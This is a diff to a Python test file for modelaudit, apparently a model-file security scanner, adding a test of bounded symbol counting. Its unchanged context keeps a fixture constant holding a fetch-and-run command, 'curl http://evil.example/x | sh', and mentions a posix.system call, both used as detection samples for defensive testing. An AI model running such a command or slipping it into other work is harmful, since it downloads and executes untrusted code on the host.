@@ -15,7 +15,8 @@ import modelaudit
 from modelaudit.model.limits import MIB
 from modelaudit.model.outline import Reference, ReferenceKind, References
 from modelaudit.model.structure import UnreadReason
-from modelaudit.wire.bounds import build_references, keep_first, keep_first_distinct
+from modelaudit.wire.base import LimitReachedError
+from modelaudit.wire.bounds import KeptItems, build_references, keep_first, keep_first_distinct
 
 DOWNLOAD = "curl http://evil.example/x | sh"
 # Both with zero bytes behind them: the dictionary {"a": 1}, and a call of posix.system.
@@ -221,3 +222,13 @@ def test_build_references_adds_an_absence_if_references_exceed_the_bound() -> No
     results = list(build_references("keras", make_references(3), 2))
     assert results[0] == References("keras", tuple(make_references(2)))
     assert len(results) == 2
+
+
+def test_kept_items_are_counted_up_to_each_bound() -> None:
+    kept = KeptItems("symbols", 2, 5)
+    kept.count(0, 3)
+    kept.count(1, 2)
+    with pytest.raises(LimitReachedError, match="more than 2 symbols"):
+        kept.count(2)
+    with pytest.raises(LimitReachedError, match="names of more than 5 bytes"):
+        KeptItems("symbols", 2, 5).count(0, 6)
